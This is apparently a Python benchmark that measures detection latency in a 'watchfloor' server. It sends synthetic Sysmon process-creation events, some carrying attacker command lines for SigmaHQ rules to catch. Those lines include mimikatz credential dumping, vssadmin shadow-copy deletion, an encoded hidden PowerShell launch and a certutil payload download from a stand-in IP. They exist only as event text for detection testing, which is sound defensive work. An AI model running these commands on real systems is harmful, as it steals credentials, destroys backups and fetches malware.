"""Streaming detection under `watchfloor serve`: delay from HEC acknowledgement to alert at a steady rate.

Starts `watchfloor serve` on free ports in a fresh data directory with these rules in its library:

* `demo`: the demo scenario's rules (`watchfloor/demo/rules`);
* `full`: the same plus every SigmaHQ Windows `process_creation` rule of the corpus.

The rules run as published: each event is a Sysmon process creation rendered as XML, sent with the
sourcetype the Splunk Windows add-on gives it (`XmlWinEventLog:Microsoft-Windows-Sysmon/Operational`),
so the listener routes it to the `windows` source with the fields an .evtx file would give it, where
the `windows`/`process_creation` logsource finds it. The benchmark's own event id travels as the HEC
indexed field `bench_id` (stored as `hec.fields.bench_id`). The rules are parsed before the clock
starts: one marker event is sent and its alert awaited.

Then `--clients` senders post batches of `--batch` Sysmon process-creation events, paced so that
together they offer `--rate` events per second for `--seconds`. About one event in `--attack-every` is
taken from a list of attacker command lines that the demo and SigmaHQ rules catch (others match SigmaHQ
rules by chance). The batches are rendered before the clock starts and only their times are filled in
when each is sent, so that the load generator's CPU goes to sending, not to rendering events (which took
about half a core, on the 2 cores the server shares). Each request's acknowledgement time is noted for
its events (`bench_id`); a poller reads `alerts.jsonl` every 20 ms and notes when each alert's evidence
events first appear. The delay of an alerting event is that time minus its acknowledgement. After the
senders stop the run waits (at most `--drain` seconds) for detection to catch up; events alerted later
than that are counted as late: their delay is counted up to the moment the stopping server (which
finishes detection's backlog first, for up to 60 s) wrote them.

Prints events/s actually acknowledged, alerts, p50/p95/p99 delay and the load average (the machine may be
shared). Usage: `python bench/stream_detect.py [--rules demo|full] [--shape xml|winlogbeat] [--seconds 40]
[--rate 5000]`.
"""

from __future__ import annotations

import argparse
import asyncio
import json
import os
import random
import shutil
import signal
import statistics
import subprocess
import sys
import threading
import time
import uuid
from pathlib import Path
from typing import Any
from xml.sax.saxutils import escape

import httpx
import yaml

HERE = Path(__file__).resolve().parent
ROOT = HERE.parent
CORPORA = ROOT.parent / "shared" / "corpora"
PROCESS_CREATION = CORPORA / "sigma" / "rules" / "windows" / "process_creation"
DEMO_RULES = ROOT / "src" / "watchfloor" / "demo" / "rules"
TOKEN = "bench-stream-token"
SOURCETYPE = "XmlWinEventLog:Microsoft-Windows-Sysmon/Operational"

_IMAGES = [
    r"C:\Program Files\Google\Chrome\Application\chrome.exe",
    r"C:\Program Files\Mozilla Firefox\firefox.exe",
    r"C:\Program Files\Microsoft VS Code\Code.exe",
    r"C:\Program Files\7-Zip\7zFM.exe",
]
_PARENTS = [r"C:\Windows\explorer.exe", r"C:\Program Files\Google\Chrome\Application\chrome.exe"]
_ATTACKS = [
    (
        r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe",
        "powershell.exe -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIAA=",
    ),
    (r"C:\Windows\System32\vssadmin.exe", "vssadmin.exe delete shadows /all /quiet"),
    (r"C:\Users\Public\m.exe", "m.exe privilege::debug sekurlsa::logonpasswords exit"),
    (r"C:\Windows\System32\certutil.exe", "certutil.exe -urlcache -split -f http://198.51.100.7/a.exe a.exe"),
    (r"C:\Windows\System32\whoami.exe", "whoami /all"),
]
_USERS = ["CORP\\alice", "CORP\\bob", "CORP\\svc_backup", "NT AUTHORITY\\SYSTEM"]
_HOSTS = [f"WS{n:04d}.corp.example.com" for n in range(200)]


def prepare_rules(target: Path, which: str) -> int:
    """Copy the rules unchanged; return how many rule documents they hold."""
    target.mkdir(parents=True, exist_ok=True)
    files = sorted(DEMO_RULES.glob("*.yml"))
    if which == "full":
        files += sorted(PROCESS_CREATION.glob("*.yml"))
    count = 0
    for index, path in enumerate(files):
        text = path.read_text(encoding="utf-8")
        count += sum(1 for d in yaml.safe_load_all(text) if isinstance(d, dict))
        (target / f"{index:05d}-{path.name}").write_text(text, encoding="utf-8")
    return count


_SYSMON_XML = (
    "<Event xmlns='http://schemas.microsoft.com/win/2004/08/events/event'><System>"
    "<Provider Name='Microsoft-Windows-Sysmon' Guid='{{5770385f-c22a-43e0-bf4c-06f5698ffbd9}}'/>"
    "<EventID>1</EventID><Version>5</Version><Level>4</Level><Task>1</Task><Opcode>0</Opcode>"
    "<Keywords>0x8000000000000000</Keywords><TimeCreated SystemTime='{time}'/>"
    "<EventRecordID>{record}</EventRecordID><Correlation/><Execution ProcessID='2872' ThreadID='3920'/>"
    "<Channel>Microsoft-Windows-Sysmon/Operational</Channel><Computer>{host}</Computer>"
    "<Security UserID='S-1-5-18'/></System><EventData>{data}</EventData></Event>"
)


#: Placeholders for the send time, filled in by `stamp` just before a pre-rendered batch is posted.
_SYSTEM_TIME = "@SYSTEM-TIME@"  # 2024-03-01T12:00:00.123456Z
_UTC_TIME = "@UTC-TIME@"  # 2024-03-01 12:00:00.123
_HEC_TIME = "@HEC-TIME@"  # seconds since the epoch (a JSON number)


def stamp(body: str, now: float) -> str:
    """A pre-rendered batch with the send time `now` in every event."""
    seconds = time.strftime("%Y-%m-%dT%H:%M:%S", time.gmtime(now))
    system = f"{seconds}.{int(now % 1 * 1e6):06d}Z"
    utc = f"{seconds.replace('T', ' ')}.{int(now % 1 * 1e3):03d}"
    return body.replace(_SYSTEM_TIME, system).replace(_UTC_TIME, utc).replace(f'"{_HEC_TIME}"', f"{now:.6f}")


def _sysmon_xml(host: str, record: int, data: dict[str, str]) -> str:
    """A Sysmon event 1 as Windows renders it (single line, as Splunk's Windows add-on sends it)."""
    items = "".join(f"<Data Name='{k}'>{escape(v)}</Data>" for k, v in data.items())
    return _SYSMON_XML.format(time=_SYSTEM_TIME, record=record, host=host, data=items)


def _winlogbeat(host: str, record: int, data: dict[str, str]) -> dict[str, Any]:
    """The same event as Winlogbeat ships it."""
    return {
        "@timestamp": _SYSTEM_TIME,
        "agent": {"type": "winlogbeat"},
        "winlog": {
            "event_id": 1,
            "channel": "Microsoft-Windows-Sysmon/Operational",
            "provider_name": "Microsoft-Windows-Sysmon",
            "computer_name": host,
            "record_id": record,
            "event_data": data,
        },
    }


def event(rng: random.Random, bench_id: str, attack_every: int, shape: str = "xml") -> dict[str, Any]:
    """One Sysmon process creation as a HEC event object: Windows XML, or a Winlogbeat document.

    Its times are placeholders that `stamp` fills in with the moment the batch is sent.
    """
    if rng.randrange(attack_every) == 0:
        image, command = rng.choice(_ATTACKS)
    else:
        image = rng.choice(_IMAGES)
        command = f'"{image}" --profile {rng.randrange(1000)}'
    parent = rng.choice(_PARENTS)
    host = rng.choice(_HOSTS)
    data = {
        "RuleName": "-",
        "UtcTime": _UTC_TIME,
        "ProcessGuid": "{" + str(uuid.UUID(int=rng.getrandbits(128))) + "}",
        "ProcessId": str(rng.randrange(1000, 65000)),
        "Image": image,
        "OriginalFileName": image.rsplit("\\", 1)[-1],
        "CommandLine": command,
        "CurrentDirectory": "C:\\Windows\\system32\\",
        "User": rng.choice(_USERS),
        "LogonId": "0x3e7",
        "IntegrityLevel": "Medium",
        "Hashes": f"SHA256={rng.getrandbits(256):064x}",
        "ParentProcessId": str(rng.randrange(1000, 65000)),
        "ParentImage": parent,
        "ParentCommandLine": f'"{parent}"',
    }
    record = rng.randrange(1 << 31)
    if shape == "winlogbeat":
        return {
            "event": _winlogbeat(host, record, data),
            "sourcetype": "winlogbeat",
            "time": _HEC_TIME,
            "host": host,
            "fields": {"bench_id": bench_id},
        }
    return {
        "event": _sysmon_xml(host, record, data),
        "sourcetype": SOURCETYPE,
        "source": SOURCETYPE,
        "time": _HEC_TIME,
        "host": host,
        "fields": {"bench_id": bench_id},
    }


def _pump(stream: Any, output: list[str]) -> None:
    output.extend(line.rstrip() for line in stream)


def start(data_dir: Path) -> tuple[subprocess.Popen[str], str, list[str]]:
    """`watchfloor serve` on free ports; its process, HEC URL and (growing) output lines."""
    ports = ["--api-port", "0", "--syslog-port", "0", "--hec-port", "0", "--otlp-port", "0"]
    process = subprocess.Popen(
        [sys.executable, "-m", "watchfloor", "--data-dir", str(data_dir), "serve", *ports],
        stdout=subprocess.PIPE,
        stderr=subprocess.STDOUT,
        text=True,
        env={**os.environ, "PYTHONUNBUFFERED": "1"},
    )
    assert process.stdout is not None
    output: list[str] = []
    url = ""
    for line in process.stdout:
        output.append(line.rstrip())
        if line.startswith("listening: hec "):
            url = line.split()[-1]
        if line.startswith("watchfloor serve ready"):
            threading.Thread(target=_pump, args=(process.stdout, output), daemon=True).start()
            return process, url, output
    raise SystemExit("watchfloor serve did not start:\n" + "\n".join(output))


class AlertWatcher:
    """Polls alerts.jsonl; first time each evidence event uid was seen in an alert (wall clock)."""

    def __init__(self, path: Path) -> None:
        self.path = path
        self.seen: dict[str, float] = {}
        self.alerts = 0
        self._offset = 0
        self._stop = threading.Event()
        self._thread = threading.Thread(target=self._run, daemon=True)

    def start(self) -> None:
        self._thread.start()

    def stop(self) -> None:
        self._stop.set()
        self._thread.join()
        self.poll()

    def _run(self) -> None:
        while not self._stop.wait(0.02):
            self.poll()

    def poll(self) -> None:
        if not self.path.is_file():
            return
        with self.path.open("rb") as handle:
            handle.seek(self._offset)
            data = handle.read()
        now = time.time()
        end = data.rfind(b"\n") + 1
        self._offset += end
        for line in data[:end].splitlines():
            if not line.strip():
                continue
            self.alerts += 1
            for evidence in json.loads(line)["evidences"]:
                self.seen.setdefault(evidence["event_uid"], now)


Batch = tuple[list[str], str]  # the events' bench ids, and the HEC body with time placeholders


def render(seed: int, batches: int, batch: int, attack_every: int, shape: str) -> list[Batch]:
    """The batches one sender will post, rendered before the clock starts.

    Rendering the events (XML escaping, JSON) costs the client about half a core at 5,000 events/s;
    done during the run, the load generator would take that CPU from the server it measures.
    """
    rng = random.Random(seed)
    out: list[Batch] = []
    for number in range(0, batches * batch, batch):
        ids = [f"{seed}-{number + i}" for i in range(batch)]
        out.append((ids, "".join(json.dumps(event(rng, i, attack_every, shape)) for i in ids)))
    return out


async def sender(
    url: str, rate: float, until: float, batches: list[Batch], acked: dict[str, float], seed: int
) -> None:
    """Post batches on a fixed schedule (no catching up in bursts); note each event's ack time."""
    rng = random.Random(seed)
    headers = {"Authorization": f"Splunk {TOKEN}", "X-Splunk-Request-Channel": str(uuid.uuid4())}
    interval = len(batches[0][0]) / rate
    due = time.monotonic() + rng.random() * min(interval, 1.0)
    async with httpx.AsyncClient(base_url=url, headers=headers, timeout=30) as client:
        for ids, body in batches:
            if due >= until:
                break
            await asyncio.sleep(max(0.0, due - time.monotonic()))
            due = max(due + interval, time.monotonic() - interval)
            response = await client.post("/services/collector/event", content=stamp(body, time.time()))
            if response.status_code == 503:
                continue  # overloaded: the events were not taken
            response.raise_for_status()
            now = time.time()
            acked.update(dict.fromkeys(ids, now))


def uid_to_bench_id(data_dir: Path, uids: list[str]) -> dict[str, str]:
    """Event uid → bench_id for the alerted events (read from the store after the run)."""
    from watchfloor.store import DuckDBEventStore

    store = DuckDBEventStore(data_dir / "events")
    out: dict[str, str] = {}
    for start_at in range(0, len(uids), 5000):
        listed = ", ".join("'" + u.replace("'", "''") + "'" for u in uids[start_at : start_at + 5000])
        table = store.query(
            'SELECT ocsf.metadata_uid, "hec.fields.bench_id" FROM windows '
            f"WHERE ocsf.metadata_uid IN ({listed})"
        )
        out.update(zip(table.column(0).to_pylist(), table.column(1).to_pylist(), strict=True))
    return out


def percentile(values: list[float], q: float) -> float:
    ordered = sorted(values)
    return ordered[min(len(ordered) - 1, int(q * len(ordered)))]


async def load(url: str, args: argparse.Namespace, acked: dict[str, float]) -> float:
    rate = args.rate / args.clients
    batches = int(args.seconds * rate / args.batch) + 2
    rendered = [render(n, batches, args.batch, args.attack_every, args.shape) for n in range(args.clients)]
    until = time.monotonic() + args.seconds
    started = time.monotonic()
    await asyncio.gather(*(sender(url, rate, until, rendered[n], acked, n) for n in range(args.clients)))
    return time.monotonic() - started


def main() -> None:
    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    parser.add_argument("--rules", choices=("demo", "full"), default="full")
    parser.add_argument("--seconds", type=float, default=40)
    parser.add_argument("--rate", type=float, default=5000)
    parser.add_argument("--clients", type=int, default=8)
    parser.add_argument("--batch", type=int, default=50)
    parser.add_argument("--attack-every", type=int, default=500)
    parser.add_argument("--drain", type=float, default=60)
    parser.add_argument("--shape", choices=("xml", "winlogbeat"), default="xml")
    parser.add_argument("--out", type=Path, default=HERE / "out" / "stream_detect")
    args = parser.parse_args()

    data_dir = args.out / "data"
    shutil.rmtree(data_dir, ignore_errors=True)
    data_dir.mkdir(parents=True)
    (data_dir / "watchfloor.toml").write_text(f'hec_tokens = ["{TOKEN}"]\n', encoding="utf-8")
    rules = prepare_rules(data_dir / "rules", args.rules)
    process, url, output = start(data_dir)
    watcher = AlertWatcher(data_dir / "alerts" / "alerts.jsonl")
    watcher.start()
    try:
        warm: dict[str, float] = {}
        marker = render(999, 1, 1, 1, args.shape)  # one attack
        asyncio.run(sender(url, 1.0, time.monotonic() + 1.0, marker, warm, 999))
        deadline = time.monotonic() + 300
        while not watcher.alerts and time.monotonic() < deadline:
            time.sleep(0.1)
        warm_alerts = watcher.alerts
        load_before = os.getloadavg()
        acked: dict[str, float] = {}
        elapsed = asyncio.run(load(url, args, acked))
        sent_until = time.time()
        settle = time.monotonic() + args.drain
        last = -1
        while time.monotonic() < settle:  # until no alert arrived for 5 s
            time.sleep(5)
            if watcher.alerts == last:
                break
            last = watcher.alerts
        load_after = os.getloadavg()
        drained = {uid: seen for uid, seen in watcher.seen.items()}
    finally:
        process.send_signal(signal.SIGTERM)  # detection finishes its backlog before the server exits
        process.wait(300)
        watcher.stop()
    names = uid_to_bench_id(data_dir, sorted(watcher.seen))
    delays = [watcher.seen[uid] - acked[bid] for uid, bid in names.items() if bid in acked]
    late = sum(1 for uid, bid in names.items() if bid in acked and uid not in drained)
    result = {
        "rules": args.rules,
        "shape": args.shape,
        "rule_documents": rules,
        "offered_rate": args.rate,
        "seconds": round(elapsed, 1),
        "acknowledged_events": len(acked),
        "events_per_second": round(len(acked) / elapsed),
        "alerts": watcher.alerts - warm_alerts,
        "alerted_events": len(delays),
        "alerted_events_only_at_shutdown": late,
        "delay_p50_s": round(statistics.median(delays), 3) if delays else None,
        "delay_p95_s": round(percentile(delays, 0.95), 3) if delays else None,
        "delay_p99_s": round(percentile(delays, 0.99), 3) if delays else None,
        "delay_max_s": round(max(delays), 3) if delays else None,
        "drained_s_after_last_send": round(time.time() - sent_until, 1),
        "load_average_before": [round(x, 2) for x in load_before],
        "load_average_after": [round(x, 2) for x in load_after],
        "server": [line for line in output if line.startswith(("stopped", "detection"))],
    }
    print(json.dumps(result, indent=2))


if __name__ == "__main__":
    main()
